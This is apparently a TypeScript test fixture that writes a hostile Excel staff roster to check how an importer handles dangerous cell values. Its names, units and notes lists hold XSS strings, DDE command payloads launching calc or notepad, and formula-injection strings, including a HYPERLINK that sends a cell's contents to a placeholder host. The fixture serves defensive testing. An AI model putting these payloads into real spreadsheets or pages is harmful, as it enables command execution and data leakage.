/**
 * A roster a mischievous (or unlucky) clerk might send: names and units that
 * are HTML, spreadsheet formulas or DDE payloads, a note column full of them,
 * IDs ending in X, an invalid ID. Written as a real .xlsx with ExcelJS, all
 * hostile values as plain text cells (as typed with a leading apostrophe).
 */
import ExcelJS from 'exceljs';
import { breakCheck, checkChar, goodId } from '../fixtures/bad/make.js';

export const HOSTILE_NAMES = [
  '<script>alert(1)</script>',
  '</td><img src=x onerror=alert(1)>',
  '张&李',
  '"引号"王',
  "O'Brien",
  '=1+1',
  '+SUM(A1)',
  '-2+3',
  '@cmd',
  '=HYPERLINK("http://example.invalid/?q="&C3,"点我")',
  "=cmd|' /C calc'!A0",
  '\t=1+2',
] as const;

export const HOSTILE_UNITS = ['<b>粗体单位</b>', '=IMPORTXML("http://example.invalid","//a")', '甲&乙医院', '@SUM(1,2)'] as const;
export const HOSTILE_NOTES = ['=1+2', '@SUM(1)', '-x', '+1', "=cmd|' /C notepad'!A0", '<iframe src="http://example.invalid">'] as const;

export interface HostileRoster {
  path: string;
  /** every ID number in the file, valid or not */
  ids: string[];
  names: readonly string[];
}

/** An 18-digit ID whose check character is X (for masking of the last four). */
function idEndingInX(n: number): string {
  for (let seq = n; ; seq++) {
    const body = `15250219880808${String(seq % 1000).padStart(3, '0')}`;
    if (checkChar(body) === 'X') return body + 'X';
  }
}

export async function writeHostileRoster(path: string): Promise<HostileRoster> {
  const wb = new ExcelJS.Workbook();
  wb.created = wb.modified = new Date(Date.UTC(2024, 10, 20));
  const ws = wb.addWorksheet('花名册');
  ws.addRow(['序号', '姓名', '身份证号', '工作单位', '2024年公需学时', '2024年专业学时', '备注']);
  const ids: string[] = [];
  HOSTILE_NAMES.forEach((name, i) => {
    const id = i === 3 ? idEndingInX(100) : goodId(300 + i);
    ids.push(id);
    ws.addRow([i + 1, name, id, HOSTILE_UNITS[i % HOSTILE_UNITS.length]!, i % 2 === 0 ? 30 : 10, i * 10, HOSTILE_NOTES[i % HOSTILE_NOTES.length]!]);
  });
  const broken = breakCheck(goodId(399));
  ids.push(broken);
  ws.addRow([HOSTILE_NAMES.length + 1, '<i>错号</i>人员', broken, '甲&乙医院', 30, 60, '=1+2']);
  ws.getColumn(3).numFmt = '@';
  await wb.xlsx.writeFile(path);
  return { path, ids, names: [...HOSTILE_NAMES, '<i>错号</i>人员'] };
}
